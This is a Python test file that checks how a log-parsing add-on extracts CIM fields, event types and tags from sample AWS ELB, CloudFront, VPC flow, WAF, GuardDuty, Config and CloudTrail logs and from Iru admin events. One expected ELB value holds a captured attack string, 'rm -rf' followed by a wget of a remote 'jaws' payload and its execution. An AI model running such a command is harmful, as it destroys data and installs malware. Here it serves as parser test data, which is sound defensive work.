"""CIM fields, event types and tags of the AWS logs of issue 13 (ELB, CloudFront, VPC
flow logs, WAF, Config, GuardDuty) and of Iru events with an admin, checked offline on
the documented sample lines (tests/fixtures/samples/<type>/, README-aws-logs.md)
through the emulation in tests/ko/."""

import json
import os
import sys

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

import ko_conf

SAMPLES = ko_conf.SAMPLES_DIR


@pytest.fixture(scope="module")
def ko():
    return ko_conf.KnowledgeObjects()


@pytest.fixture(scope="module")
def processed(ko):
    out = {}
    for name, st, raw, _ in ko_conf.render_aws_log_samples():
        out.setdefault(name, []).append(ko.search_time(st, raw))
    return out


ELB = "elb/mixed_access.log"
CF = "cloudfront/E2EXAMPLE.2019-12-04-21.a1b2c3d4.log"
VPC = "vpcflow/default_v2.log"
HISTORY = "config/123456789012_Config_us-west-2_ConfigHistory_AWS__EC2__Volume.json"
SNAPSHOT = "config/123456789012_Config_us-east-2_ConfigSnapshot_20160927T183939Z_16da64e4-cb65-4846-b061-e6c3ba43cb96.json"

EXPECTED = {
    (ELB, 0): {  # ALB, HTTP listener
        "eventtype": ["sqs_s3_audit_elb_web"], "tag": ["web"], "lb_type": "application", "src": "192.168.131.39",
        "src_port": 2817, "dest": "app/my-loadbalancer/50dc6c495c0c9188", "dest_ip": "10.0.0.1", "dest_port": 80,
        "http_method": "GET", "status": 200, "url": "http://www.example.com:80/", "site": "www.example.com",
        "uri_path": "/", "bytes_in": 34, "bytes_out": 366, "bytes": 400, "http_user_agent": "curl/7.46.0",
        "target_group_arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
        "trace_id": "Root=1-58337262-36d228ad5d99923122bbe354", "actions_executed": "forward",
        "vendor_product": "AWS Elastic Load Balancing"},
    (ELB, 1): {  # ALB, HTTPS with SNI and certificate
        "type": "https", "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256", "ssl_protocol": "TLSv1.2",
        "domain_name": "www.example.com", "actions_executed": "authenticate,forward", "matched_rule_priority": "1"},
    (ELB, 2): {"type": "h2", "http_version": "HTTP/2.0", "redirect_url": "https://example.com:80/", "url_port": "773"},
    (ELB, 3): {"type": "ws", "status": 101, "http_user_agent": None, "tag": ["web"]},
    (ELB, 5): {  # Lambda target that failed: no target address, no target status
        "status": 502, "target_status_code": "-", "dest_ip": None, "error_code": "LambdaInvalidResponse"},
    (ELB, 6): {  # NLB, TLS listener
        "eventtype": ["sqs_s3_audit_elb_connection"], "tag": ["communicate", "network"], "lb_type": "network",
        "src": "72.21.218.154", "dest_ip": "172.100.100.185", "dest_port": 443, "tls_cipher": "ECDHE-RSA-AES128-SHA",
        "tls_protocol_version": "tlsv12", "duration": 0.005, "bytes": 344, "transport": "tcp",
        "site": "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com"},
    (ELB, 7): {"alpn_fe_protocol": "h2", "alpn_client_preference_list": '"h2","http/1.1"'},
    (ELB, 8): {  # Classic, HTTP
        "eventtype": ["sqs_s3_audit_elb_web"], "lb_type": "classic", "dest": "my-loadbalancer", "dest_ip": "10.0.0.1",
        "status": 200, "http_user_agent": "curl/7.38.0", "bytes": 29},
    (ELB, 10): {  # Classic, TCP: no request line, no status
        "eventtype": ["sqs_s3_audit_elb_connection"], "tag": ["communicate", "network"], "status": None,
        "http_method": None, "bytes": 387},
    (ELB, 12): {  # -1 timings (no target), a space inside the quoted request
        "status": 301, "response_time": None, "dest_ip": None, "http_user_agent": "Hello, world",
        "uri_path": "/shell", "uri_query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
        "classification": "Acceptable", "classification_reason": "SpaceInUri"},
    (ELB, 13): {"eventtype": ["sqs_s3_audit_elb_connection"], "tls_cipher": "-", "bytes": 0,
                "tls_connection_creation_time": "2024-10-25T17:33:59"},
    (ELB, 14): {"eventtype": [], "tag": [], "http_method": None, "status": 200},   # malformed request line
    (CF, 0): {
        "eventtype": ["sqs_s3_audit_cloudfront_web"], "tag": ["web"], "src": "192.0.2.100", "src_port": 11040,
        "http_method": "GET", "uri_path": "/index.html", "uri_query": None, "status": 200, "bytes_out": 392,
        "bytes_in": 23, "bytes": 415, "dest": "d111111abcdef8.cloudfront.net", "site": "d111111abcdef8.cloudfront.net",
        "http_user_agent": "Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20AppleWebKit/537.36%20(KHTML,%20like"
                           "%20Gecko)%20Chrome/78.0.3904.108%20Safari/537.36",
        "cached": "true", "http_content_type": "text/html", "http_version": "HTTP/2.0", "ssl_protocol": "TLSv1.2",
        "x_edge_result_type": "Hit", "x_edge_location": "LAX1", "vendor_product": "Amazon CloudFront"},
    (CF, 3): {"status": 502, "cached": "false", "http_referrer": "http://www.example.com/", "site": "www.example.com",
              "x_edge_detailed_result_type": "OriginDnsError", "sc_range_end": "-"},
    (VPC, 0): {
        "eventtype": ["sqs_s3_audit_vpcflow_traffic"], "tag": ["communicate", "network"], "src": "172.31.16.139",
        "dest": "172.31.16.21", "src_port": 20641, "dest_port": 22, "transport": "tcp", "protocol": "ip",
        "packets": 20, "bytes": 4249, "action": "allowed", "duration": 60, "dvc": "eni-1235b8ca123456789",
        "vendor_account": "123456789010", "vendor_product": "AWS VPC Flow Logs"},
    (VPC, 1): {"action": "blocked", "dest_port": 3389},
    (VPC, 2): {"eventtype": [], "tag": [], "log_status": "NODATA", "src": None, "bytes": None, "action": None},
    (VPC, 3): {"eventtype": [], "log_status": "SKIPDATA"},
    (VPC, 4): {"transport": "icmp", "src_port": 0, "action": "allowed"},
    (VPC, 6): {"src": "2001:db8:1234:a100:8d6e:3477:df66:f105", "dest_ip": "2001:db8:1234:a102:3304:8879:34cf:4071"},
    ("waf/aws-waf-logs.jsonl", 0): {
        # not tagged web: WAF records carry neither the response status nor the bytes
        "eventtype": ["sqs_s3_audit_waf_request"], "tag": [], "action": "blocked", "vendor_action": "BLOCK",
        "url": "localhost:1989/foo", "status": None,
        "src": "89.160.20.156", "http_method": "GET", "uri_path": "/foo", "uri_query": None,
        "http_user_agent": "curl/7.61.1", "site": "localhost:1989", "dest": "localhost:1989",
        "signature": "STMTest_SQLi_XSS", "src_country": "AU", "vendor_product": "AWS WAF"},
    ("waf/aws-waf-logs.jsonl", 1): {"action": "allowed", "vendor_action": "ALLOW", "signature": "Default_Action"},
    ("waf/aws-waf-logs.jsonl", 3): {"http_method": "POST", "http_user_agent": None, "dest": "alb", "uri_path": ""},
    ("guardduty/findings.jsonl", 0): {
        "eventtype": ["sqs_s3_audit_guardduty_finding"], "tag": ["alert"], "type": "alert",
        "signature": "Trojan:EC2/BlackholeTraffic!DNS", "signature_id": "d6012345678912345678912349f831b8f",
        "severity": "medium", "severity_id": "5", "category": "Trojan", "dest": "i-99999999", "dest_type": "Instance",
        "vendor_account": "123412341234", "vendor_region": "us-east-1", "app": "guardduty",
        "description": "EC2 instance i-99999999 is querying a domain name of a blackholed domain.",
        "vendor_product": "Amazon GuardDuty"},
    ("guardduty/findings.jsonl", 1): {
        "severity": "high", "src": "175.16.199.1", "user": "system:anonymous", "dest": "GeneratedFindingEKSClusterName",
        "category": "Persistence"},
    (HISTORY, 0): {
        "eventtype": ["sqs_s3_audit_config_item"], "tag": ["inventory"], "object": "vol-ce676ccc",
        "object_category": "AWS::EC2::Volume", "object_id": "arn:aws:us-west-2b:123456789012:volume/vol-ce676ccc",
        "dest": "vol-ce676ccc", "status": "OK", "vendor_product": "AWS Config"},
    (HISTORY, 2): {"object": "vol-cia007c"},
    (SNAPSHOT, 0): {
        "object": "sg-3f1fef43", "object_category": "AWS::EC2::SecurityGroup", "status": "ResourceDiscovered",
        "object_id": "arn:aws:ec2:us-east-2:123456789012:security-group/sg-3f1fef43", "vendor_account": "123456789012",
        "vendor_region": "us-east-2"},
    ("config/sns_item_change_security_group.json", 0): {
        "eventtype": ["sqs_s3_audit_config_change"], "tag": ["change"], "action": "created", "status": "success",
        "object": "sg-3f1fef43", "object_category": "AWS::EC2::SecurityGroup", "change_type": "AWS Config",
        "message_type": "ConfigurationItemChangeNotification", "user": "unknown", "vendor_region": "us-east-2"},
    ("config/sns_item_change_volume_2014.json", 0): {
        "action": "modified", "object": "vol-ce676ccc", "object_category": "AWS::EC2::VOLUME"},
    ("config/sns_compliance_change.json", 0): {
        "eventtype": ["sqs_s3_audit_config_compliance"], "tag": [], "compliance_type": "COMPLIANT",
        "rule": "cloudtrail-enabled", "object": "123456789012", "object_category": "AWS::::Account", "status": None},
    ("iru_admin/activity_with_admin.jsonl", 0): {
        "eventtype": ["sqs_s3_audit_iru_change", "sqs_s3_audit_iru_user_activity"], "user": "admin@example.com",
        "user_email": "admin@example.com", "user_name": "Example Admin", "user_role": "admin",
        "user_id": "cf40d6e7-20cb-4da9-84a1-9ad0b7003ca5", "actor_category": "person", "action": "created"},
}


@pytest.mark.parametrize("sample,index", sorted(EXPECTED))
def test_aws_log_sample_gets_the_expected_cim_fields_eventtypes_and_tags(processed, sample, index):
    fields = processed[sample][index]
    for name, value in EXPECTED[(sample, index)].items():
        got = fields.get(name)
        if isinstance(got, list) and name not in ("eventtype", "tag"):
            got = got[0] if len(got) == 1 else got
        if isinstance(value, float):
            assert got == pytest.approx(value), f"{sample}[{index}] {name}: {got!r} != {value!r}"
        else:
            assert got == value, f"{sample}[{index}] {name}: {got!r} != {value!r}"


def test_every_network_traffic_event_has_the_cim_fields(processed):
    seen = 0
    for sample, events in processed.items():
        for fields in events:
            if "network" in fields["tag"] and "communicate" in fields["tag"]:
                seen += 1
                for f in ("src", "dest", "src_port", "dest_port", "bytes", "transport", "vendor_product"):
                    assert fields.get(f) is not None, (sample, f)
    assert seen == 10   # 5 VPC records with log_status OK, 3 NLB TLS lines, 2 Classic TCP/SSL lines


def test_every_alert_event_has_the_cim_alert_fields(processed):
    events = [f for evs in processed.values() for f in evs if "alert" in f["tag"]]
    assert len(events) == 2
    for fields in events:
        for f in ("app", "dest", "signature", "signature_id", "severity", "type", "description", "vendor_account"):
            assert fields.get(f), f
        assert fields["severity"] in ("critical", "high", "medium", "low", "informational")


def test_guardduty_severity_bands_follow_the_guardduty_user_guide(ko):
    def severity(value):
        return ko.search_time("aws:cloudwatch:guardduty", json.dumps({"severity": value, "type": "X:Y/Z"}))["severity"]
    assert [severity(v) for v in (0.5, 1, 3.9, 4, 6.9, 7, 8.9, 9, 10)] == [
        "informational", "low", "low", "medium", "medium", "high", "high", "critical", "critical"]


def test_custom_format_vpc_flow_records_are_not_read_as_the_default_format(ko):
    for name in ("custom_v3_tcp_flags.log", "custom_v5_traffic_path.log", "custom_nat_no_start.log"):
        with open(os.path.join(SAMPLES, "vpcflow", name), encoding="utf-8") as f:
            for line in list(f)[1:]:
                fields = ko.search_time("aws:cloudwatchlogs:vpcflow", line.rstrip("\n"))
                assert fields.get("srcaddr") is None and fields.get("action") is None, (name, line)


def test_an_elb_quoted_field_may_hold_escaped_quotes(ko):
    # The documented HTTP entry with a user agent that holds a quote, as ELB escapes it.
    with open(os.path.join(SAMPLES, "elb", "mixed_access.log"), encoding="utf-8") as f:
        line = f.readline().rstrip("\n").replace('"curl/7.46.0"', r'"curl \"quoted\" agent"')
    fields = ko.search_time("aws:elb:accesslogs", line)
    assert fields["user_agent"] == r'curl \"quoted\" agent'
    assert fields["target_group_arn"].startswith("arn:aws:elasticloadbalancing:")
    assert fields["actions_executed"] == "forward"


def test_iru_api_token_actors_are_neither_people_nor_the_platform(ko):
    # The documented event with the actor type Iru's audit events API gives an API token
    # (Iru, formerly Kandji, "Audit events" API: actor_type api_token, its id in actor_id).
    with open(os.path.join(SAMPLES, "iru_activity.jsonl"), encoding="utf-8") as f:
        rec = json.loads(f.readline())
    rec["actor_type"] = "api_token"
    fields = ko.search_time("iru:endpoint:activity", json.dumps(rec, separators=(",", ":")))
    assert fields["actor_category"] == "api_token"
    assert fields["user"] == rec["actor_id"]
    assert "sqs_s3_audit_iru_user_activity" not in fields["eventtype"]
    assert "sqs_s3_audit_iru_system_activity" not in fields["eventtype"]
    assert fields.get("user_email") is None and fields.get("user_name") is None


def test_cloudtrail_records_of_event_version_1_0_get_the_cim_change_fields(ko):
    # AWS's documented eventVersion 1.0 examples: no eventID, eventType, readOnly or recipientAccountId.
    name = "123456789012_CloudTrail_us-east-2_20140325T2110Z_v1EXAMPLE0000001.json"
    with open(os.path.join(SAMPLES, "cloudtrail_v1", name), encoding="utf-8") as f:
        records = json.load(f)["Records"]
    got = [ko.search_time("aws:cloudtrail", json.dumps(r, separators=(",", ":"))) for r in records]
    assert [f["command"] for f in got] == ["StartInstances", "CreateUser", "AddUserToGroup"]
    assert all(f["src_user_name"] == "Alice" and f["status"] == "success" and "change" in f["tag"] for f in got)
    # CIM Account_Management: user is the account changed, src_user the actor
    assert [f["user"] for f in got] == ["Alice", "Bob", "Bob"]
    assert got[1]["src_user"] == "arn:aws:iam::123456789012:user/Alice"
    assert "sqs_s3_audit_cloudtrail_change" in got[0]["eventtype"]
    assert (got[0]["object"], got[0]["object_category"], got[0]["change_type"]) == ("i-ebeaf9e2", "instance", "EC2")
    assert (got[1]["action"], got[1]["object"], got[1]["object_category"]) == ("created", "Bob", "user")
    assert "account" in got[1]["tag"] and "account" in got[2]["tag"]
    read_only = dict(records[0], eventName="DescribeInstances")
    assert "change" not in ko.search_time("aws:cloudtrail", json.dumps(read_only))["tag"]
